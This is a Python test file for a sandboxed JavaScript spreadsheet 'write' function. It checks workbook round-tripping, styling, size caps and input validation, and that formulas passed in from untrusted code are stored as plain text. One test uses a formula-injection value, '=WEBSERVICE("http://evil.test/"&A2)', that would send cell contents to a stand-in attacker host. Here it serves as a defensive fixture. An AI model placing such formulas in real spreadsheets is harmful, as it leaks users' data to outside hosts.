"""`@nodetool-ai/sandbox-xlsx` has the reference's `write` export.

The bodies and expected results are the reference's (`packages/agents/tests/js-sandbox.test.ts`,
"@nodetool-ai/sandbox-xlsx"); what a run hands `write` is hostile, so the workbook it builds holds
data only: a string starting with `=` is text, not a formula the spreadsheet would evaluate.
"""

from __future__ import annotations

import io
import zipfile

import openpyxl

from core import run_in_sandbox
from core.packs.host.xlsx import MAX_WRITE_CELLS
from tests.conftest import ok
from tests.hostpacks import refused, run_body

XLSX = "@nodetool-ai/sandbox-xlsx"


def test_write_records_to_a_workbook_the_parser_reads_back():
    code = f"""import {{ parse, write }} from "{XLSX}";
       const bytes = await write({{
         Costs: [{{ item: "Lamp", usd: 49 }}, {{ item: "Desk", usd: 349 }}],
         Notes: [{{ note: "draft" }}]
       }});
       return await parse(bytes);"""
    assert ok(run_body(code)) == {
        "Costs": [{"item": "Lamp", "usd": 49}, {"item": "Desk", "usd": 349}],
        "Notes": [{"note": "draft"}],
    }


def test_write_takes_column_order_headerless_rows_and_styles():
    code = f"""import {{ parse, write }} from "{XLSX}";
       const bytes = await write([
         {{
           name: "Costs",
           rows: [{{ usd: 49, item: "Lamp" }}],
           columns: ["item", "usd"],
           styles: [{{ range: "A1:B1", bold: true, background: "#FFE9A8" }}]
         }},
         {{ name: "Raw", rows: [["a", 1], ["b", 2]], header: false }}
       ]);
       const sheets = await parse(bytes);
       const raw = await parse(bytes, {{ sheet: "Raw", header: false }});
       return {{ costs: sheets.Costs, raw, bytes }};"""
    result = ok(run_body(code))
    assert result["costs"] == [{"item": "Lamp", "usd": 49}]
    assert result["raw"] == [["a", 1], ["b", 2]]
    header = openpyxl.load_workbook(io.BytesIO(result["bytes"]))["Costs"]["A1"]
    assert header.font.bold and header.fill.fgColor.rgb == "FFFFE9A8"


def test_write_refuses_a_style_range_that_is_not_cells_and_a_workbook_past_the_cell_cap():
    code = f"""import {{ write }} from "{XLSX}";
       try {{ await write([{{ name: "S", rows: [{{ a: 1 }}], styles: [{{ range: "rows 1-3" }}] }}]); return "no throw"; }}
       catch (e) {{ return e.message; }}"""
    assert "is not a cell range" in ok(run_body(code))
    big = f"""import {{ write }} from "{XLSX}";
       const rows = Array.from({{ length: {MAX_WRITE_CELLS // 2 + 1} }}, (_, i) => ({{ a: i, b: i }}));
       return await write({{ Big: rows }});"""
    # The reference builds MAX_WRITE_CELLS rows of two cells on the host side; a run's argument is capped at
    # 5 MB of JSON, so here one row past half the cap (plus the header row) is the smallest refusal.
    refused(run_body(big), "xlsx-too-large", "exceeds the 250000 cell limit")
    wide = f"""import {{ write }} from "{XLSX}";
       return await write([{{ name: "S", rows: [{{ a: 1 }}], styles: [{{ range: "A1:XFD1048576", bold: true }}] }}]);"""
    refused(run_body(wide), "xlsx-too-large")  # a style over every cell would make 17 billion of them
    assert ok(run_in_sandbox("return 1")) == 1  # the next run is healthy


def test_a_formula_from_the_run_is_written_as_text():
    code = f"""import {{ write }} from "{XLSX}";
       return await write({{ S: [{{ a: "=WEBSERVICE(\\"http://evil.test/\\"&A2)", b: "#N/A", c: "=1+1" }}] }});"""
    data = ok(run_body(code))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet  # no formula cell at all
        assert not [n for n in archive.namelist() if "externalLink" in n]
    cells = openpyxl.load_workbook(io.BytesIO(data))["S"]
    assert [c.value for c in cells[2]] == ['=WEBSERVICE("http://evil.test/"&A2)', "#N/A", "=1+1"]
    assert {c.data_type for c in cells[2]} == {"s"}


def test_write_refuses_what_excel_would_not_open():
    for sheets, words in (
        ('{"a/b": [{ x: 1 }]}', "is not one Excel accepts"),
        ('{["x".repeat(32)]: [{ x: 1 }]}', "is not one Excel accepts"),
        ('[{ name: "S", rows: [{ x: 1 }] }, { name: "s", rows: [] }]', "two sheets are named"),
        ("{ S: [{ x: { nested: 1 } }] }", "cell values must be strings"),
        ("{}", "at least one sheet"),
        ('{ S: "rows" }', "rows must be an array"),
    ):
        code = f'import {{ write }} from "{XLSX}";\nreturn await write({sheets});'
        refused(run_body(code), "xlsx-write-invalid", words)
    huge = f'import {{ write }} from "{XLSX}";\nreturn await write({{ S: [{{ x: "y".repeat(40000) }}] }});'
    refused(run_body(huge), "xlsx-too-large", "32,767")
